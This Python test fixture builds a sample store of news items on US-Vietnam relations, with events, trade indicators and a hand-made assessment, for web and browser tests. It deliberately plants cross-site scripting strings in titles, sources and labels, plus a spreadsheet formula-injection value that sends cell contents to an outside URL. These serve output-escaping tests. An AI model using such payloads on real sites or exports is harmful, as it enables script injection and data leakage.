"""A small store written in the test (rows inserted directly), including hostile documents.

Used by the web, golden and browser tests. ``SampleAssessment`` is a hand-computed assessment with the
public Assessment shape, so the web layer can be tested on its own, whatever the assessment stage does.
"""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pandas as pd

import dyadscope
from dyadscope.dyads import parse_dyad
from dyadscope.errors import make
from dyadscope.store import tables as t

XSS_TITLE = "<script>alert(1)</script>"
XSS_ATTR = '"><img src=x onerror=alert(1)>'
NOW = "2026-01-15T00:00:00+00:00"


def doc_id(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def sentences_of(text: str) -> list[tuple[int, int]]:
    spans, start = [], 0
    for i, ch in enumerate(text):
        if ch == "." and (i + 1 == len(text) or text[i + 1] == " "):
            spans.append((start, i + 1))
            start = i + 2
    if start < len(text):
        spans.append((start, len(text)))
    return spans


DOCS = [
    {
        "title": "Washington and Hanoi upgrade ties",
        "published": "2023-09-12",
        "source": "https://example.org/csp",
        "kind": "news",
        "text": (
            "The two presidents met in Hanoi on 10 September 2023. They raised the relationship to "
            "a comprehensive strategic partnership. Trade reached USD 100 billion in 2022 per U.S. "
            "data. Vietnam must weigh how China will react to closer security ties."
        ),
    },
    {
        "title": "Tariffs strain trade",
        "published": "2025-04-10",
        "source": "https://example.org/tariffs",
        "kind": "news",
        "text": (
            "Washington announced a 46 percent tariff on Vietnamese goods in April 2025. Vietnam "
            "Customs put two-way trade at USD 90 billion in 2022. Officials in Hanoi sought talks."
        ),
    },
    {
        "title": XSS_TITLE,
        "published": "2024-01-05",
        "source": XSS_ATTR,
        "kind": "other",
        "text": f"Reporters wrote {XSS_TITLE} and {XSS_ATTR} in a sentence. A second sentence follows.",
    },
]


def build_sample_store(path: Path) -> dyadscope.Database:
    """Create a store at ``path`` holding DOCS, their sentences and a few records of each kind."""
    db = dyadscope.open(path)
    ids = [doc_id(d["text"]) for d in DOCS]
    with db.write() as conn:
        for d, did in zip(DOCS, ids, strict=True):
            conn.execute(
                t.documents.insert().values(
                    id=did,
                    title=d["title"],
                    published=d["published"],
                    published_precision="day",
                    source=d["source"],
                    kind=d["kind"],
                    text=d["text"],
                    ingested_at=NOW,
                    language="en",
                    dyad="USA-VNM",
                )
            )
            for i, (s, e) in enumerate(sentences_of(d["text"])):
                conn.execute(
                    t.sentences.insert().values(
                        doc_id=did, idx=i, char_start=s, char_end=e, text=d["text"][s:e]
                    )
                )
        for row in sample_events(ids):
            conn.execute(t.events.insert().values(**row))
        for row in sample_indicators(ids):
            conn.execute(t.indicators.insert().values(**row))
        conn.execute(
            t.claims.insert().values(
                id="c1",
                doc_id=ids[0],
                factor="china_reaction",
                stance="constraint",
                dimension="security",
                kind="constraint",
                actors="VNM CHN",
                date="2023-09",
                text=sentence(0, 3),
                char_start=span(0, 3)[0],
                char_end=span(0, 3)[1],
                confidence=0.8,
                hedged=False,
            )
        )
    return db


def span(doc: int, idx: int) -> tuple[int, int]:
    return sentences_of(DOCS[doc]["text"])[idx]


def sentence(doc: int, idx: int) -> str:
    s, e = span(doc, idx)
    return DOCS[doc]["text"][s:e]


def event(
    eid: str,
    did: str | None,
    date: str,
    code: str,
    label: str,
    gold: float,
    dim: str,
    text: str,
    start: int,
    end: int,
    *,
    src: str = "USA",
    tgt: str = "VNM",
    status: str = "reported",
    person: str | None = None,
) -> dict[str, Any]:
    return dict(
        id=eid,
        doc_id=did,
        date=date,
        month=date[:7],
        date_precision="day",
        source_actor=src,
        target_actor=tgt,
        source_person=person,
        event_code=code,
        event_root=code[:2],
        event_label=label,
        goldstein=gold,
        quad_class=1 if gold >= 0 else 4,
        dimension=dim,
        status=status,
        text=text,
        char_start=start,
        char_end=end,
        confidence=0.8,
        origin="document",
    )


def sample_events(ids: list[str]) -> list[dict[str, Any]]:
    rows = [
        event(
            "e1", ids[0], "2023-09-10", "042", "Make a visit", 1.9, "diplomatic", sentence(0, 0), *span(0, 0)
        ),
        event(
            "e2",
            ids[0],
            "2023-09-10",
            "057",
            "Sign formal agreement",
            8.0,
            "diplomatic",
            sentence(0, 1),
            *span(0, 1),
        ),
        event(
            "e3",
            ids[1],
            "2025-04-02",
            "163",
            "Impose embargo or sanctions",
            -8.0,
            "economic",
            sentence(1, 0),
            *span(1, 0),
        ),
        event(
            "e4",
            ids[2],
            "2024-01-05",
            "010",
            XSS_TITLE,
            0.0,
            "diplomatic",
            sentence(2, 0),
            *span(2, 0),
            person=XSS_ATTR,
            status="planned",
        ),
    ]
    # bulk rows without a document, as a GDELT import leaves them
    for i in range(60):
        year, month = 2020 + i // 12, i % 12 + 1
        rows.append(
            event(
                f"g{i:03d}",
                None,
                f"{year}-{month:02d}-15",
                "036",
                "Express intent to meet",
                4.0,
                "diplomatic",
                f"gdelt row {i}",
                0,
                0,
                src="VNM",
                tgt="USA",
            )
        )
        rows[-1]["origin"], rows[-1]["source_event_id"] = "gdelt", str(i)
    return rows


def sample_indicators(ids: list[str]) -> list[dict[str, Any]]:
    base = dict(
        name="goods_trade_total",
        unit="USD",
        period="2022",
        partner="VNM",
        measure="flow",
        confidence=0.8,
        origin="document",
    )
    return [
        {
            **base,
            "id": "i1",
            "doc_id": ids[0],
            "value": 1.0e11,
            "reporter": "USA",
            "source_attribution": "U.S. data",
            "text": sentence(0, 2),
            "char_start": span(0, 2)[0],
            "char_end": span(0, 2)[1],
        },
        {
            **base,
            "id": "i2",
            "doc_id": ids[1],
            "value": 9.0e10,
            "reporter": "VNM",
            "partner": "USA",
            "source_attribution": '=HYPERLINK("http://x?"&A1)',
            "text": sentence(1, 1),
            "char_start": span(1, 1)[0],
            "char_end": span(1, 1)[1],
        },
        {
            **base,
            "id": "i3",
            "doc_id": ids[1],
            "name": "trade_balance",
            "value": -3.2,
            "reporter": "USA",
            "source_attribution": XSS_TITLE,
            "text": sentence(1, 1),
            "char_start": span(1, 1)[0],
            "char_end": span(1, 1)[1],
        },
    ]


class SampleAssessment:
    """The public Assessment shape, with numbers computed here from the sample rows."""

    def __init__(self, db: dyadscope.Database, dyad: Any) -> None:
        self.dyad = parse_dyad(dyad)
        months = pd.period_range("2020-01", "2025-12", freq="M").astype(str)
        score = [min(6.0, 2.0 + 0.06 * i) if m < "2025-04" else 3.0 for i, m in enumerate(months)]
        frame = pd.DataFrame({"month": months, "overall": score})
        for k, dim in enumerate(("diplomatic", "security", "economic", "human_rights", "people", "legacy")):
            frame[dim] = frame["overall"] - 0.5 * k
        frame["level"] = ["good (mid)" if s < 5 else "good (high)" for s in score]
        frame["framework"] = [
            "comprehensive partnership" if m < "2023-09" else "comprehensive strategic partnership"
            for m in months
        ]
        self.timeline = frame
        self.current = {
            "month": "2025-12",
            "score": 3.0,
            "level": "good (low)",
            "trend": -2.5,
            "framework": "comprehensive strategic partnership",
        }
        self.dimensions = pd.DataFrame(
            {"dimension": ["diplomatic", "economic"], "score": [3.0, 1.0], "change_12m": [0.5, -2.0]}
        )
        claim = db.claims(dyad=self.dyad)
        doc = db.documents().set_index("id")
        cites = [
            {
                "doc_id": r.doc_id,
                "doc_title": doc.loc[r.doc_id, "title"],
                "published": doc.loc[r.doc_id, "published"],
                "text": r.text,
                "char_start": r.char_start,
                "char_end": r.char_end,
            }
            for r in claim.itertuples()
        ]
        self.constraints = pd.DataFrame(
            [
                {
                    "factor": "china_reaction",
                    "label": "Vietnam anticipates China's reaction",
                    "dimension": "security",
                    "stance": "constraint",
                    "strength": 0.7,
                    "evidence_count": 1,
                    "sources": 1,
                    "latest": "2023-09",
                    "citations": cites,
                }
            ]
        )
        self.drivers = pd.DataFrame(
            [
                {
                    "factor": "xss",
                    "label": XSS_TITLE,
                    "dimension": "diplomatic",
                    "stance": "driver",
                    "strength": 0.5,
                    "evidence_count": 1,
                    "sources": 1,
                    "latest": "2024-01",
                    "citations": [{**cites[0], "doc_title": XSS_ATTR}],
                }
            ]
        )
        self.findings = pd.DataFrame(
            [
                {
                    "id": "f1",
                    "kind": "figure_conflict",
                    "severity": "medium",
                    "title": "2022 trade differs by reporter",
                    "explanation": "U.S. data and Vietnam Customs differ; reporter asymmetry.",
                    "evidence": cites,
                }
            ]
        )
        self.snapshot_id = "snap1"
        self._events = db.events(dyad=self.dyad)
        self._docs = doc

    def explain(self, month: str) -> pd.DataFrame:
        rows = self._events[
            self._events["date"].str.startswith(month) & (self._events["status"] == "reported")
        ]
        return pd.DataFrame(
            [
                {
                    "kind": "event",
                    "record_id": r.id,
                    "dimension": r.dimension,
                    "contribution": r.goldstein / 10,
                    "weight": 1.0,
                    "value": r.goldstein,
                    "date": r.date,
                    "text": r.text,
                    "doc_id": r.doc_id,
                    "doc_title": self._docs.loc[r.doc_id, "title"] if isinstance(r.doc_id, str) else None,
                    "char_start": r.char_start,
                    "char_end": r.char_end,
                }
                for r in rows.itertuples()
            ],
            columns=[
                "kind",
                "record_id",
                "dimension",
                "contribution",
                "weight",
                "value",
                "date",
                "text",
                "doc_id",
                "doc_title",
                "char_start",
                "char_end",
            ],
        )

    def to_json(self) -> dict[str, Any]:
        return {"dyad": str(self.dyad), "current": self.current, "timeline": self.timeline.to_dict("records")}


def with_sample_assessment(app, cls=SampleAssessment):  # type: ignore[no-untyped-def]
    db = app.state.web.db
    # the signature of Database.assess: one Dyad or two codes
    db.assess = lambda a, b=None, **kw: cls(db, a if b is None else (a, b))
    # the sample assessment has no model result to simulate from: foresight refuses, as on a thin store
    db.scenario = lambda a, b=None, **kw: (_ for _ in ()).throw(
        make("E608", dyad=a if b is None else f"{a}-{b}", months=0, horizon=12, needed=25)
    )
    return app
